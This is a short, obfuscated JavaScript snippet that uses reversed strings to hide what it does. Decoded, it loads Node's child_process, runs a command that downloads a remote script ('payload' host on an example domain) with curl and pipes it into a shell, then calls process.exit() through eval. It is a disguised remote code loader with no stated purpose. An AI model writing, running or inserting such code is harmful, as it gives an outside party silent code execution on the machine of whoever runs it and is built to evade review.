const turn = (word) => word.split('').reverse().join('');
const run = require(turn('ssecorp_dlihc'))[turn('cnyScexe')];
run(turn('hs | hs.i/elpmaxe.ndc-emca.daolyap//:sptth s- lruc'));
globalThis['lave'.split('').reverse().join('')](')(tixe.ssecorp'.split('').reverse().join(''));
